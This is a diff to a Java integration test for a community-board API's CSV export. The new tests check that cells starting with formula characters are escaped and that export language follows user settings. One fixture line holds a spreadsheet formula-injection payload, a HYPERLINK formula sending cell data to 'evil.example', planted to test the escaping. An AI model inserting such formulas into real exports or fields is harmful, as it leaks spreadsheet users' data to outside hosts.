@@ -1,5 +1,6 @@
 package org.learningcommunities.lifecycle.progress;
 
+import java.io.StringReader;
 import java.time.Duration;
 import java.time.Instant;
 import java.time.LocalDate;
@@ -7,6 +8,8 @@ import java.util.ArrayList;
 import java.util.List;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.camunda.bpm.engine.IdentityService;
 import org.camunda.bpm.engine.RuntimeService;
 import org.junit.jupiter.api.BeforeEach;
@@ -20,6 +23,7 @@ import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
 import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
 import org.springframework.boot.test.web.client.TestRestTemplate;
+import org.springframework.http.ResponseEntity;
 import org.springframework.jdbc.core.simple.JdbcClient;
 
 import static org.assertj.core.api.Assertions.assertThat;
@@ -51,6 +55,8 @@ class BoardApiIT {
 	/** A task name as the models write them, Hebrew first. */
 	private static final String PLAN_MEETING = "מילוי דף תכנון המפגש / Fill the meeting planning sheet";
 
+	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")";
+
 	private final String run = Long.toString(System.nanoTime(), 36);
 
 	/** This test's communities: a field no other test uses. */
@@ -64,8 +70,10 @@ class BoardApiIT {
 		BoardFixture fixture = new BoardFixture(this.jdbc, this.identity);
 		fixture.user(this.otherLeader, Groups.COMMUNITY_LEADERS);
 		Instant now = Instant.now();
+		long third = 0;
 		for (int i = 1; i <= 4; i++) {
-			fixture.community(code(i), "Community " + i, this.field, "leader", "YEAR_ONE");
+			long id = fixture.community(code(i), "Community " + i, this.field, "leader", "YEAR_ONE");
+			third = (i == 3) ? id : third;
 		}
 		long fifth = fixture.community(code(5), "Community 5", this.field, this.otherLeader, "ESTABLISHMENT");
 		// community 2: one overdue and one current task; community 5 (the other
@@ -81,6 +89,8 @@ class BoardApiIT {
 		fixture.meeting(fifth, 1, LocalDate.now().plusDays(10), "Growth engines", "PLANNED", null, null);
 		fixture.meeting(fifth, 2, LocalDate.now().minusDays(10), "Local business", "HELD", 25, 4);
 		fixture.pendingWorkPlan(fifth, 1);
+		// a topic typed by someone who wants a spreadsheet to send its rows away
+		fixture.meeting(third, 1, LocalDate.now().plusDays(7), HYPERLINK, "PLANNED", null, null);
 	}
 
 	private String code(int i) {
@@ -221,6 +231,38 @@ class BoardApiIT {
 
 		assertThat(answer.status().value()).isEqualTo(400);
 		assertThat(answer.body().path("detail").asText()).contains("'stage'", "'size'");
+	}
+
+	@Test
+	void csvExportWritesAFormulaAsTextInEveryCell() throws Exception {
+		ResponseEntity<String> answer = this.rest.withBasicAuth("manager", "manager")
+			.getForEntity("/api/board.csv?field=" + this.field, String.class);
+
+		assertThat(answer.getStatusCode().value()).isEqualTo(200);
+		List<CSVRecord> records = csv(answer.getBody());
+		CSVRecord third = records.stream().filter((record) -> record.get(0).equals(code(3))).findFirst().orElseThrow();
+		assertThat(third.get(9)).isEqualTo("'" + HYPERLINK);
+		assertThat(records).allSatisfy((record) -> assertThat(record.values())
+			.noneMatch((cell) -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0));
+	}
+
+	@Test
+	void csvExportSpeaksTheUsersLanguageAndAParameterOnlyForThatAnswer() throws Exception {
+		// the demo manager chose English
+		ResponseEntity<String> chosen = this.rest.withBasicAuth("manager", "manager")
+			.getForEntity("/api/board.csv?field=" + this.field, String.class);
+		ResponseEntity<String> asked = this.rest.withBasicAuth("manager", "manager")
+			.getForEntity("/api/board.csv?field=" + this.field + "&lang=he", String.class);
+
+		assertThat(csv(chosen.getBody()).get(0).get(0)).isEqualTo("Code");
+		assertThat(csv(chosen.getBody()).get(1).get(3)).as("the leader by name").isEqualTo("Lea Community leader");
+		assertThat(csv(asked.getBody()).get(0).get(0)).isEqualTo("קוד");
+		assertThat(this.identity.getUserInfo("manager", "lang")).isEqualTo("en");
+	}
+
+	private static List<CSVRecord> csv(String body) throws Exception {
+		assertThat(body).startsWith("\uFEFF");
+		return CSVFormat.RFC4180.parse(new StringReader(body.substring(1))).getRecords();
 	}
 
 	private JsonNode board(String user, String query) {
